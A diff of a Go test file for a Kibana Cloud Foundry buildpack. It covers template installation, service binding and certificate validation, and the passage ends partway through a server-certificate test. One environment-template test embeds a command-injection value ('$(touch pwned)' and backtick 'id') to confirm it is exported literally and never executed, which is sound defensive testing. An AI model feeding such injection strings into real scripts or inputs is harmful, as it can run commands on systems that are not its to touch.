@@ -1,480 +1,1023 @@
 package supply_test
 
 import (
-	"golang"
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/md5"
+	"crypto/rand"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/pem"
+	"fmt"
 	"io/ioutil"
+	"math/big"
+	"net"
+	"net/http"
+	"net/http/httptest"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"time"
 
-	"bytes"
-
+	conf "kibana/config"
+	"kibana/plugin"
 	"kibana/supply"
+	"kibana/template"
 
-	"github.com/cloudfoundry/libbuildpack"
-	"github.com/cloudfoundry/libbuildpack/ansicleaner"
-
+	"github.com/andibrunner/libbuildpack"
+	"github.com/andibrunner/libbuildpack/ansicleaner"
 	"github.com/golang/mock/gomock"
+
 	. "github.com/onsi/ginkgo"
 	. "github.com/onsi/gomega"
 )
 
+// writeArchive writes a zip archive, or a tar.gz archive if the name ends with .tar.gz, with empty files
+func writeArchive(name string, files ...string) {
+	Expect(os.MkdirAll(filepath.Dir(name), 0755)).To(Succeed())
+	out, err := os.Create(name)
+	Expect(err).To(BeNil())
+	defer out.Close()
+
+	if filepath.Ext(name) == ".gz" {
+		gz := gzip.NewWriter(out)
+		t := tar.NewWriter(gz)
+		for _, file := range files {
+			Expect(t.WriteHeader(&tar.Header{Name: file, Mode: 0644})).To(Succeed())
+		}
+		Expect(t.Close()).To(Succeed())
+		Expect(gz.Close()).To(Succeed())
+		return
+	}
+	z := zip.NewWriter(out)
+	for _, file := range files {
+		_, err := z.Create(file)
+		Expect(err).To(BeNil())
+	}
+	Expect(z.Close()).To(Succeed())
+}
+
+// writeZip writes a zip archive with the given entries and contents
+func writeZip(name string, entries map[string]string) {
+	Expect(os.MkdirAll(filepath.Dir(name), 0755)).To(Succeed())
+	out, err := os.Create(name)
+	Expect(err).To(BeNil())
+	defer out.Close()
+
+	z := zip.NewWriter(out)
+	for entry, content := range entries {
+		w, err := z.Create(entry)
+		Expect(err).To(BeNil())
+		_, err = w.Write([]byte(content))
+		Expect(err).To(BeNil())
+	}
+	Expect(z.Close()).To(Succeed())
+}
+
+// testCertificate is a certificate with its private key, also PEM encoded
+type testCertificate struct {
+	cert    *x509.Certificate
+	key     *ecdsa.PrivateKey
+	certPEM []byte
+	keyPEM  []byte
+}
+
+// newCertificate creates a certificate from the template valid for the next year unless the template sets the
+// validity, signed by the issuer or self-signed if the issuer is nil
+func newCertificate(template *x509.Certificate, issuer *testCertificate) testCertificate {
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	Expect(err).To(BeNil())
+	if template.SerialNumber == nil {
+		template.SerialNumber = big.NewInt(time.Now().UnixNano())
+	}
+	if template.NotAfter.IsZero() {
+		template.NotBefore, template.NotAfter = time.Now().Add(-time.Hour), time.Now().AddDate(1, 0, 0)
+	}
+	parent, parentKey := template, key
+	if issuer != nil {
+		parent, parentKey = issuer.cert, issuer.key
+	}
+	der, err := x509.CreateCertificate(rand.Reader, template, parent, &key.PublicKey, parentKey)
+	Expect(err).To(BeNil())
+	cert, err := x509.ParseCertificate(der)
+	Expect(err).To(BeNil())
+	keyDer, err := x509.MarshalECPrivateKey(key)
+	Expect(err).To(BeNil())
+	return testCertificate{cert: cert, key: key,
+		certPEM: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}),
+		keyPEM:  pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDer})}
+}
+
+// newCA creates a self-signed CA certificate
+func newCA(name string) testCertificate {
+	return newCertificate(&x509.Certificate{Subject: pkix.Name{CommonName: name}, IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}, nil)
+}
+
+// newLeaf creates a certificate for the extended key usage signed by the CA
+func newLeaf(name string, usage x509.ExtKeyUsage, ca testCertificate) testCertificate {
+	return newCertificate(&x509.Certificate{Subject: pkix.Name{CommonName: name}, BasicConstraintsValid: true, ExtKeyUsage: []x509.ExtKeyUsage{usage}}, &ca)
+}
+
 //go:generate mockgen -source=supply.go --destination=mocks_test.go --package=supply_test
 
 var _ = Describe("Supply", func() {
 	var (
 		buildDir     string
+		buildpackDir string
+		cacheDir     string
 		depsDir      string
 		depsIdx      string
 		gs           *supply.Supplier
-		logger       *libbuildpack.Logger
 		buffer       *bytes.Buffer
 		err          error
 		mockCtrl     *gomock.Controller
 		mockManifest *MockManifest
-		goVersion    string
-		vendorTool   string
-		godep        golang.Godep
 	)
 
 	BeforeEach(func() {
-		buildDir, err = ioutil.TempDir("", "go-buildpack.build.")
+		buildDir, err = ioutil.TempDir("", "kibana-buildpack.build.")
 		Expect(err).To(BeNil())
 
-		depsDir, err = ioutil.TempDir("", "go-buildpack.deps.")
+		buildpackDir, err = ioutil.TempDir("", "kibana-buildpack.buildpack.")
 		Expect(err).To(BeNil())
 
-		depsIdx = "04"
-
-		err = os.MkdirAll(filepath.Join(depsDir, depsIdx), 0755)
+		cacheDir, err = ioutil.TempDir("", "kibana-buildpack.cache.")
 		Expect(err).To(BeNil())
 
-		buffer = new(bytes.Buffer)
+		depsDir, err = ioutil.TempDir("", "kibana-buildpack.deps.")
+		Expect(err).To(BeNil())
 
-		logger = libbuildpack.NewLogger(ansicleaner.New(buffer))
+		depsIdx = "04"
+		Expect(os.MkdirAll(filepath.Join(depsDir, depsIdx), 0755)).To(Succeed())
 
+		buffer = new(bytes.Buffer)
 		mockCtrl = gomock.NewController(GinkgoT())
 		mockManifest = NewMockManifest(mockCtrl)
 	})
 
 	JustBeforeEach(func() {
-		args := []string{buildDir, "", depsDir, depsIdx}
-		stager := libbuildpack.NewStager(args, logger, &libbuildpack.Manifest{})
+		logger := libbuildpack.NewLogger(ansicleaner.New(buffer))
+		stager := libbuildpack.NewStager([]string{buildDir, cacheDir, depsDir, depsIdx}, logger, &libbuildpack.Manifest{})
 
 		gs = &supply.Supplier{
-			Stager:     stager,
-			Manifest:   mockManifest,
-			Log:        logger,
-			GoVersion:  goVersion,
-			VendorTool: vendorTool,
-			Godep:      godep,
+			Stager:           stager,
+			Manifest:         mockManifest,
+			Log:              logger,
+			BuildpackDir:     buildpackDir,
+			DepCacheDir:      filepath.Join(cacheDir, "dependencies"),
+			CachedDeps:       map[string]string{},
+			PluginsToInstall: map[string]conf.Plugin{},
+			PluginArchives:   map[string]string{},
 		}
 	})
 
 	AfterEach(func() {
 		mockCtrl.Finish()
 
-		err = os.RemoveAll(buildDir)
-		Expect(err).To(BeNil())
+		for _, dir := range []string{buildDir, buildpackDir, cacheDir, depsDir} {
+			Expect(os.RemoveAll(dir)).To(Succeed())
+		}
+	})
 
-		err = os.RemoveAll(depsDir)
-		Expect(err).To(BeNil())
+	Describe("InstallEnvTemplate", func() {
+		It("exports the values literally", func() {
+			templatesDir := filepath.Join(buildDir, "templates")
+			Expect(os.MkdirAll(templatesDir, 0755)).To(Succeed())
+			content := "PLAIN: value\nSECRET: 'pa$(touch pwned)s`id`\"''s'\nBRACES: '{{ .Env.HOME }}'\nSTAGED: <<.Env.STAGED>>\n"
+			Expect(ioutil.WriteFile(filepath.Join(templatesDir, "my-env.yml"), []byte(content), 0644)).To(Succeed())
+
+			renderer := &template.Renderer{LeftDelim: "<<", RightDelim: ">>", Env: map[string]string{"STAGED": "at staging"}}
+			Expect(gs.InstallEnvTemplate(conf.Template{Name: "my-env", Type: "env", Dir: templatesDir}, renderer)).To(Succeed())
+
+			script := filepath.Join(depsDir, depsIdx, "profile.d", "template-my-env.sh")
+			out, err := exec.Command("bash", "-c", `cd "$1" && . "$2" && printf '%s|%s|%s|%s' "$PLAIN" "$SECRET" "$BRACES" "$STAGED"`, "bash", buildDir, script).CombinedOutput()
+			Expect(err).To(BeNil(), string(out))
+			Expect(string(out)).To(Equal("value|pa$(touch pwned)s`id`\"'s|{{ .Env.HOME }}|at staging"))
+			Expect(filepath.Join(buildDir, "pwned")).NotTo(BeAnExistingFile())
+		})
 	})
 
-	Describe("SelectVendorTool", func() {
-		Context("There is a Godeps.json", func() {
-			var (
-				godepsJson         string
-				godepsJsonContents string
-			)
+	Describe("InstallTemplates", func() {
+		const vcapServices = `{
+  "a9s-elasticsearch": [
+    {"name": "my-es", "label": "a9s-elasticsearch", "plan": "small", "tags": ["elasticsearch"], "credentials": {"host": "https://es:9200"}}
+  ],
+  "user-provided": [
+    {"name": "my-smtp", "label": "user-provided", "tags": [], "credentials": {"host": "smtp.example.com"}}
+  ]
+}`
 
-			JustBeforeEach(func() {
-				err = os.MkdirAll(filepath.Join(buildDir, "Godeps"), 0755)
+		BeforeEach(func() {
+			templatesDir := filepath.Join(buildpackDir, "defaults", "templates")
+			Expect(os.MkdirAll(templatesDir, 0755)).To(Succeed())
+			files, err := ioutil.ReadDir(filepath.Join("..", "..", "..", "defaults", "templates"))
+			Expect(err).To(BeNil())
+			for _, file := range files {
+				data, err := ioutil.ReadFile(filepath.Join("..", "..", "..", "defaults", "templates", file.Name()))
 				Expect(err).To(BeNil())
+				Expect(ioutil.WriteFile(filepath.Join(templatesDir, file.Name()), data, 0644)).To(Succeed())
+			}
+		})
+
+		JustBeforeEach(func() {
+			Expect(gs.VcapServices.Parse([]byte(vcapServices))).To(Succeed())
+		})
+
+		// installed returns the pre-processed config template
+		installed := func(name string) string {
+			data, err := ioutil.ReadFile(filepath.Join(depsDir, depsIdx, "conf.d", name+".yml"))
+			Expect(err).To(BeNil())
+			return string(data)
+		}
+
+		It("binds the default templates to the service selected by their rules", func() {
+			Expect(gs.EvalTemplatesFile()).To(Succeed())
+			Expect(gs.InstallTemplates()).To(Succeed())
+
+			Expect(buffer.String()).To(ContainSubstring("Template cf-kibana is bound to service my-es"))
+			Expect(installed("cf-kibana")).To(ContainSubstring(`credential .Env.VCAP_SERVICES "my-es" "host" "uri" "host"`))
+			Expect(filepath.Join(depsDir, depsIdx, "certificates.d", "cf-certificates.yml")).To(BeAnExistingFile())
+			Expect(gs.MissingServices).To(BeEmpty())
+		})
+
+		It("lists every candidate if more than one service matches", func() {
+			gs.VcapServices["elastic-cloud"] = []conf.VcapService{
+				{Name: "cloud-es", Label: "elastic-cloud", Plan: "gold", Tags: []string{"elastic"}},
+				{Name: "other-es", Label: "elastic-cloud", Plan: "gold", Tags: []string{"Elasticsearch"}},
+			}
+			Expect(gs.EvalTemplatesFile()).To(Succeed())
+
+			err := gs.InstallTemplates()
+			Expect(err).To(BeAssignableToTypeOf(&conf.AmbiguousServicesError{}))
+			Expect(err.(*conf.AmbiguousServicesError).Candidates).To(HaveLen(3))
+			Expect(buffer.String()).To(ContainSubstring("More than one service found for template cf-kibana"))
+			for _, line := range []string{
+				"cloud-es (label 'elastic-cloud', plan 'gold'): tag 'elastic'",
+				"my-es (label 'a9s-elasticsearch', plan 'small'): tag 'elasticsearch'",
+				"other-es (label 'elastic-cloud', plan 'gold'): tag 'elasticsearch'",
+			} {
+				Expect(buffer.String()).To(ContainSubstring(line))
+				Expect(err.Error()).To(ContainSubstring(line))
+			}
+			Expect(gs.TemplatesToInstall).To(BeEmpty())
+		})
+
+		It("installs only the templates of the Kibana file with their service", func() {
+			gs.KibanaConfig.ConfigTemplates = []conf.ConfigTemplate{{Name: "cf-kibana", ServiceInstanceName: "my-smtp"}}
+			Expect(gs.EvalTemplatesFile()).To(Succeed())
+			Expect(gs.InstallTemplates()).To(Succeed())
+
+			Expect(installed("cf-kibana")).To(ContainSubstring(`credential .Env.VCAP_SERVICES "my-smtp" "host" "uri" "host"`))
+			Expect(filepath.Join(depsDir, depsIdx, "certificates.d", "cf-certificates.yml")).NotTo(BeAnExistingFile())
+
+			gs.TemplatesToInstall = nil
+			gs.KibanaConfig.ConfigTemplates = []conf.ConfigTemplate{{Name: "cf-kibana"}}
+			Expect(gs.InstallTemplates()).To(MatchError("no service instance name defined for template in Kibana file"))
+		})
 
-				godepsJson = filepath.Join(buildDir, "Godeps", "Godeps.json")
-				err = ioutil.WriteFile(godepsJson, []byte(godepsJsonContents), 0644)
+		It("replaces buildpack templates with the templates of the app", func() {
+			appTemplates := filepath.Join(buildDir, "templates")
+			Expect(os.MkdirAll(appTemplates, 0755)).To(Succeed())
+			catalog := "templates:\n- name: cf-kibana\n  type: config\n  is-default: true\n  selection:\n    name: ^my-smtp$\n"
+			Expect(ioutil.WriteFile(filepath.Join(appTemplates, "templates.yml"), []byte(catalog), 0644)).To(Succeed())
+			Expect(ioutil.WriteFile(filepath.Join(appTemplates, "cf-kibana.yml"), []byte("app.service: <<.Env.SERVICE_INSTANCE_NAME>>\n"), 0644)).To(Succeed())
+			gs.KibanaConfig.TemplatesDir = "templates"
+
+			Expect(gs.EvalTemplatesFile()).To(Succeed())
+			Expect(buffer.String()).To(ContainSubstring("Template cf-kibana of the app replaces the buildpack template cf-kibana"))
+			Expect(gs.InstallTemplates()).To(Succeed())
+			Expect(installed("cf-kibana")).To(Equal("app.service: my-smtp\n"))
+			Expect(filepath.Join(depsDir, depsIdx, "certificates.d", "cf-certificates.yml")).To(BeAnExistingFile())
+		})
+
+		It("uses the fallback template if no service is bound", func() {
+			delete(gs.VcapServices, "a9s-elasticsearch")
+			Expect(gs.EvalTemplatesFile()).To(Succeed())
+			Expect(gs.InstallTemplates()).To(MatchError("no service found for template"))
+
+			gs.TemplatesToInstall = nil
+			gs.KibanaConfig.EnableServiceFallback = true
+			Expect(gs.InstallTemplates()).To(Succeed())
+			Expect(buffer.String()).To(ContainSubstring("No service found for template cf-kibana, using the fallback template cf-kibana-fallback"))
+			Expect(installed("cf-kibana-fallback")).To(ContainSubstring("ELASTICSEARCH_URL"))
+			Expect(filepath.Join(depsDir, depsIdx, "conf.d", "cf-kibana.yml")).NotTo(BeAnExistingFile())
+			Expect(gs.MissingServices).To(Equal([]string{"template cf-kibana: bind a service with tag 'elasticsearch' or 'elastic' and restage the app"}))
+		})
+
+		It("installs a template without service if it has no fallback template", func() {
+			appTemplates := filepath.Join(buildDir, "templates")
+			Expect(os.MkdirAll(appTemplates, 0755)).To(Succeed())
+			catalog := "templates:\n- name: my-certificates\n  type: certificates\n  is-default: true\n  tags: [vault]\n"
+			Expect(ioutil.WriteFile(filepath.Join(appTemplates, "templates.yml"), []byte(catalog), 0644)).To(Succeed())
+			Expect(ioutil.WriteFile(filepath.Join(appTemplates, "my-certificates.yml"), []byte("service: '<<.Env.SERVICE_INSTANCE_NAME>>'\n"), 0644)).To(Succeed())
+			gs.KibanaConfig.TemplatesDir = "templates"
+			gs.KibanaConfig.EnableServiceFallback = true
+
+			Expect(gs.EvalTemplatesFile()).To(Succeed())
+			Expect(gs.InstallTemplates()).To(Succeed())
+			Expect(buffer.String()).To(ContainSubstring("No service found for template my-certificates and no fallback template defined"))
+			data, err := ioutil.ReadFile(filepath.Join(depsDir, depsIdx, "certificates.d", "my-certificates.yml"))
+			Expect(err).To(BeNil())
+			Expect(string(data)).To(Equal("service: ''\n"))
+			Expect(gs.MissingServices).To(Equal([]string{"template my-certificates: bind a service with tag 'vault' and restage the app"}))
+		})
+
+		It("rejects a templates directory outside of the app", func() {
+			gs.KibanaConfig.TemplatesDir = "../templates"
+			Expect(gs.EvalTemplatesFile()).To(MatchError("templates-dir outside of the app"))
+		})
+	})
+
+	Describe("certificates", func() {
+		var ca testCertificate
+
+		BeforeEach(func() {
+			ca = newCA("my-ca")
+			Expect(os.MkdirAll(filepath.Join(buildDir, "certificates"), 0755)).To(Succeed())
+			Expect(os.MkdirAll(filepath.Join(depsDir, depsIdx, "certificates"), 0755)).To(Succeed())
+		})
+
+		AfterEach(func() {
+			os.Unsetenv("K_CERTS")
+			os.Unsetenv("K_CA_CREDENTIALS")
+		})
+
+		// profileD returns the profile.d script of the dependency directory
+		profileD := func(name string) string {
+			data, err := ioutil.ReadFile(filepath.Join(depsDir, depsIdx, "profile.d", name+".sh"))
+			Expect(err).To(BeNil())
+			return string(data)
+		}
+
+		Describe("InstallUserCertificates", func() {
+			JustBeforeEach(func() {
+				gs.KibanaConfig.Certificates = []string{"my-ca"}
+				gs.KibanaConfig.CertificateExpiryWarningDays = 30
+			})
+
+			It("installs the CA certificates as PEM files", func() {
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "my-ca.cer"), ca.cert.Raw, 0644)).To(Succeed())
+
+				Expect(gs.InstallUserCertificates()).To(Succeed())
+				Expect(gs.CaCertificates).To(HaveLen(1))
+				data, err := ioutil.ReadFile(filepath.Join(depsDir, depsIdx, "certificates", "my-ca.pem"))
 				Expect(err).To(BeNil())
+				Expect(data).To(Equal(ca.certPEM))
+				Expect(profileD("certificates")).To(ContainSubstring(`export K_CERTS="[\"$DEPS_DIR/04/certificates/my-ca.pem\"]"`))
+				Expect(buffer.String()).NotTo(ContainSubstring("expires in"))
 			})
 
-			Context("the json is valid", func() {
-				BeforeEach(func() {
-					godepsJsonContents = `
-{
-	"ImportPath": "go-online",
-	"GoVersion": "go1.6",
-	"Deps": []
-}
-`
-				})
-				It("sets the tool to godep", func() {
-					err = gs.SelectVendorTool()
-					Expect(err).To(BeNil())
-
-					Expect(gs.VendorTool).To(Equal("godep"))
-				})
-				It("logs that it is checking the Godeps.json file", func() {
-					err = gs.SelectVendorTool()
-					Expect(err).To(BeNil())
-
-					Expect(buffer.String()).To(ContainSubstring("-----> Checking Godeps/Godeps.json file"))
-				})
-				It("stores the Godep info in the supplier struct", func() {
-					err = gs.SelectVendorTool()
-					Expect(err).To(BeNil())
-
-					Expect(gs.Godep.ImportPath).To(Equal("go-online"))
-					Expect(gs.Godep.GoVersion).To(Equal("go1.6"))
-
-					var empty []string
-					Expect(gs.Godep.Packages).To(Equal(empty))
-				})
-
-				Context("godeps workspace exists", func() {
-					BeforeEach(func() {
-						err = os.MkdirAll(filepath.Join(buildDir, "Godeps", "_workspace", "src"), 0755)
-						Expect(err).To(BeNil())
-					})
-
-					It("sets Godep.WorkspaceExists to true", func() {
-						err = gs.SelectVendorTool()
-						Expect(err).To(BeNil())
-
-						Expect(gs.Godep.WorkspaceExists).To(BeTrue())
-					})
-				})
-
-				Context("godeps workspace does not exist", func() {
-					It("sets Godep.WorkspaceExists to false", func() {
-						err = gs.SelectVendorTool()
-						Expect(err).To(BeNil())
-
-						Expect(godep.WorkspaceExists).To(BeFalse())
-					})
-				})
+			It("warns about certificates expiring within certificate-expiry-warning-days", func() {
+				expiring := newCertificate(&x509.Certificate{Subject: pkix.Name{CommonName: "expiring-ca"}, IsCA: true, BasicConstraintsValid: true,
+					NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(10*24*time.Hour + time.Hour)}, nil)
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "my-ca.pem"), expiring.certPEM, 0644)).To(Succeed())
+
+				Expect(gs.InstallUserCertificates()).To(Succeed())
+				Expect(buffer.String()).To(ContainSubstring("Certificate in my-ca.pem expiring-ca expires in 10 days"))
+
+				buffer.Reset()
+				gs.KibanaConfig.CertificateExpiryWarningDays = 10
+				Expect(gs.InstallUserCertificates()).To(Succeed())
+				Expect(buffer.String()).NotTo(ContainSubstring("expires in"))
 			})
 
-			Context("bad Godeps.json file", func() {
-				BeforeEach(func() {
-					godepsJsonContents = "not actually JSON"
-				})
+			It("rejects certificates which are not CA certificates or expired", func() {
+				leaf := newLeaf("kibana.example.com", x509.ExtKeyUsageServerAuth, ca)
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "my-ca.pem"), append(ca.certPEM, leaf.certPEM...), 0644)).To(Succeed())
+				Expect(gs.InstallUserCertificates()).To(MatchError("kibana.example.com is not a CA certificate"))
+				Expect(buffer.String()).To(ContainSubstring("Invalid certificate in my-ca.pem: kibana.example.com is not a CA certificate"))
 
-				It("logs that the Godeps.json file is invalid and returns an error", func() {
-					err = gs.SelectVendorTool()
-					Expect(err).NotTo(BeNil())
+				expired := newCertificate(&x509.Certificate{Subject: pkix.Name{CommonName: "expired-ca"}, IsCA: true, BasicConstraintsValid: true,
+					NotBefore: time.Now().AddDate(-1, 0, 0), NotAfter: time.Now().AddDate(0, 0, -1)}, nil)
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "my-ca.pem"), expired.certPEM, 0644)).To(Succeed())
+				Expect(gs.InstallUserCertificates()).To(MatchError(ContainSubstring("expired-ca expired on")))
+			})
 
-					Expect(buffer.String()).To(ContainSubstring("**ERROR** Bad Godeps/Godeps.json file"))
-				})
+			It("rejects private keys in certificate files", func() {
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "my-ca.pem"), append(ca.certPEM, ca.keyPEM...), 0644)).To(Succeed())
+				Expect(gs.InstallUserCertificates()).To(MatchError("unexpected PEM block EC PRIVATE KEY, only certificates are allowed"))
 			})
 		})
 
-		Context("there is a .godir file", func() {
-			BeforeEach(func() {
-				err = ioutil.WriteFile(filepath.Join(buildDir, ".godir"), []byte("xxx"), 0644)
+		Describe("InstallServiceCertificates", func() {
+			JustBeforeEach(func() {
+				gs.TemplatesConfig = conf.TemplatesConfig{Alias: conf.Alias{CredentialsHostField: "host", CredentialsCaField: "tls.ca"}}
+				gs.TemplatesToInstall = []conf.Template{{Name: "cf-kibana", ServiceInstanceName: "my-es"}, {Name: "cf-certificates"}}
+				gs.VcapServices = conf.VcapServices{"a9s-elasticsearch": {{Name: "my-es", Credentials: map[string]interface{}{
+					"host": "https://es:9200", "tls": map[string]interface{}{"ca": string(ca.certPEM)}}}}}
 			})
 
-			It("logs that .godir is deprecated and returns an error", func() {
-				err = gs.SelectVendorTool()
-				Expect(err).NotTo(BeNil())
+			It("adds the CA certificate of the credentials of the bound services to the CA bundle", func() {
+				Expect(gs.InstallServiceCertificates()).To(Succeed())
+				Expect(gs.CaCertificates).To(HaveLen(1))
+				Expect(gs.CaCertificates[0].Subject.CommonName).To(Equal("my-ca"))
+				Expect(profileD("service-certificates")).To(ContainSubstring(`export K_CA_CREDENTIALS='[{"field":"tls.ca","service":"my-es"}]'`))
+			})
 
-				Expect(buffer.String()).To(ContainSubstring("**ERROR** Deprecated, .godir file found! Please update to supported Godep or Glide dependency managers."))
-				Expect(buffer.String()).To(ContainSubstring("See https://github.com/tools/godep or https://github.com/Masterminds/glide for usage information."))
+			It("adds the credential of services bound at runtime without checking it", func() {
+				gs.VcapServices = conf.VcapServices{}
+				Expect(gs.InstallServiceCertificates()).To(Succeed())
+				Expect(gs.CaCertificates).To(BeEmpty())
+				Expect(profileD("service-certificates")).To(ContainSubstring(`"service":"my-es"`))
+			})
+
+			It("rejects certificates which are not CA certificates", func() {
+				leaf := newLeaf("es.example.com", x509.ExtKeyUsageServerAuth, ca)
+				gs.VcapServices["a9s-elasticsearch"][0].Credentials["tls"] = map[string]interface{}{"ca": string(leaf.certPEM)}
+
+				Expect(gs.InstallServiceCertificates()).To(MatchError("es.example.com is not a CA certificate"))
+				Expect(buffer.String()).To(ContainSubstring("Invalid CA certificate of service my-es: es.example.com is not a CA certificate"))
+				Expect(gs.CaCertificates).To(BeEmpty())
+			})
+
+			It("rejects credentials without certificates", func() {
+				gs.VcapServices["a9s-elasticsearch"][0].Credentials["tls"] = map[string]interface{}{"ca": "not a certificate"}
+				Expect(gs.InstallServiceCertificates()).To(HaveOccurred())
+				Expect(buffer.String()).To(ContainSubstring("Invalid CA certificate in credential tls.ca of service my-es"))
 			})
 		})
 
-		Context("there is a glide.yaml file", func() {
+		Describe("InstallClientCertificate", func() {
+			var client, other testCertificate
+
 			BeforeEach(func() {
-				err = ioutil.WriteFile(filepath.Join(buildDir, "glide.yaml"), []byte("xxx"), 0644)
-				Expect(err).To(BeNil())
+				client = newLeaf("kibana-client", x509.ExtKeyUsageClientAuth, ca)
+				other = newLeaf("other-client", x509.ExtKeyUsageClientAuth, ca)
 			})
 
-			It("sets the tool to glide", func() {
-				err = gs.SelectVendorTool()
+			It("installs the client certificate and key of the app", func() {
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "client.crt"), client.certPEM, 0644)).To(Succeed())
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "client.key"), client.keyPEM, 0644)).To(Succeed())
+				gs.KibanaConfig.ClientCertificate = conf.ClientCertificate{Certificate: "client", Key: "client"}
+
+				Expect(gs.InstallClientCertificate()).To(Succeed())
+				Expect(gs.ClientCert).To(Equal(filepath.Join(depsDir, depsIdx, "client-certificate", "client.crt")))
+				info, err := os.Stat(gs.ClientKey)
 				Expect(err).To(BeNil())
+				Expect(info.Mode().Perm()).To(Equal(os.FileMode(0600)))
+				Expect(profileD("client-certificate")).To(ContainSubstring("export K_CLIENT_KEY=$DEPS_DIR/04/client-certificate/client.key"))
+			})
+
+			It("rejects a key which does not match the certificate", func() {
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "client.pem"), client.certPEM, 0644)).To(Succeed())
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "client.key"), other.keyPEM, 0644)).To(Succeed())
+				gs.KibanaConfig.ClientCertificate = conf.ClientCertificate{Certificate: "client", Key: "client"}
+
+				Expect(gs.InstallClientCertificate()).To(MatchError("private key does not match public key"))
+				Expect(buffer.String()).To(ContainSubstring("Invalid client certificate client.pem: private key does not match public key"))
+				Expect(filepath.Join(depsDir, depsIdx, "client-certificate", "client.key")).NotTo(BeAnExistingFile())
+			})
+
+			It("rejects certificates which are not allowed for client authentication", func() {
+				server := newLeaf("kibana.example.com", x509.ExtKeyUsageServerAuth, ca)
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "client.crt"), server.certPEM, 0644)).To(Succeed())
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "client.key"), server.keyPEM, 0644)).To(Succeed())
+				gs.KibanaConfig.ClientCertificate = conf.ClientCertificate{Certificate: "client", Key: "client"}
 
-				Expect(gs.VendorTool).To(Equal("glide"))
+				Expect(gs.InstallClientCertificate()).To(MatchError("kibana.example.com is not allowed for client authentication (extended key usage)"))
+			})
+
+			It("checks the client certificate in the credentials of the bound service", func() {
+				gs.TemplatesConfig = conf.TemplatesConfig{Alias: conf.Alias{CredentialsClientCertField: "client_certificate", CredentialsClientKeyField: "client_key"}}
+				gs.TemplatesToInstall = []conf.Template{{Name: "cf-kibana", ServiceInstanceName: "my-es"}}
+				gs.VcapServices = conf.VcapServices{"a9s-elasticsearch": {{Name: "my-es", Credentials: map[string]interface{}{
+					"client_certificate": string(client.certPEM), "client_key": string(client.keyPEM)}}}}
+				Expect(gs.InstallClientCertificate()).To(Succeed())
+				Expect(profileD("client-certificate")).To(ContainSubstring(`export K_CLIENT_CREDENTIALS='{"service":"my-es","certificate":"client_certificate","key":"client_key"}'`))
+
+				gs.VcapServices["a9s-elasticsearch"][0].Credentials["client_key"] = string(other.keyPEM)
+				Expect(gs.InstallClientCertificate()).To(MatchError("private key does not match public key"))
+				Expect(buffer.String()).To(ContainSubstring("Invalid client certificate of service my-es: private key does not match public key"))
+
+				delete(gs.VcapServices["a9s-elasticsearch"][0].Credentials, "client_key")
+				Expect(gs.InstallClientCertificate()).To(MatchError("incomplete client certificate credentials"))
 			})
 		})
 
-		Context("the app contains src/**/**/*.go", func() {
-			BeforeEach(func() {
-				err = os.MkdirAll(filepath.Join(buildDir, "src", "package"), 0755)
-				Expect(err).To(BeNil())
+		Describe("InstallServerCertificate", func() {
+			It("uses the CF instance identity certificate without a certificate of the app", func() {
+				gs.KibanaConfig.ServerSsl = conf.ServerSsl{Enabled: true}
 
-				err = ioutil.WriteFile(filepath.Join(buildDir, "src", "package", "thing.go"), []byte("xxx"), 0644)
-				Expect(err).To(BeNil())
+				Expect(gs.InstallServerCertificate()).To(Succeed())
+				Expect(buffer.String()).To(ContainSubstring("using the CF instance identity certificate for the Kibana server"))
+				Expect(gs.ServerCert).To(Equal("/etc/cf-instance-credentials/instance.crt"))
+				Expect(gs.ServerKey).To(Equal("/etc/cf-instance-credentials/instance.key"))
+				Expect(profileD("server-certificate")).To(Equal("export K_BP_SERVER_SSL=true\nexport K_SERVER_CERT=$CF_INSTANCE_CERT\nexport K_SERVER_KEY=$CF_INSTANCE_KEY\n"))
 			})
 
-			It("logs that gb is deprecated and returns an error", func() {
-				err = gs.SelectVendorTool()
-				Expect(err).NotTo(BeNil())
+			It("installs the server certificate and key of the app", func() {
+				server := newLeaf("kibana.example.com", x509.ExtKeyUsageServerAuth, ca)
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "server.crt"), server.certPEM, 0644)).To(Succeed())
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "server.key"), server.keyPEM, 0644)).To(Succeed())
+				gs.KibanaConfig.ServerSsl = conf.ServerSsl{Enabled: true, Certificate: "server", Key: "server"}
+
+				Expect(gs.InstallServerCertificate()).To(Succeed())
+				Expect(gs.ServerCert).To(Equal(filepath.Join(depsDir, depsIdx, "server-certificate", "server.crt")))
+				Expect(profileD("server-certificate")).To(ContainSubstring("export K_SERVER_CERT=$DEPS_DIR/04/server-certificate/server.crt"))
+			})
 
-				Expect(buffer.String()).To(ContainSubstring("**ERROR** Cloud Foundry does not support the GB package manager."))
-				Expect(buffer.String()).To(ContainSubstring("We currently only support the Godep and Glide package managers for go apps"))
-				Expect(buffer.String()).To(ContainSubstring("For support please file an issue: https://github.com/cloudfoundry/go-buildpack/issues"))
+			It("rejects certificates which are not allowed for server authentication", func() {
+				client := newLeaf("kibana-client", x509.ExtKeyUsageClientAuth, ca)
+				Expect(ioutil.WriteFile(filepath.Join(buildDir, "certificates", "server.crt"), client.certPEM, 0644)).To(Succeed())
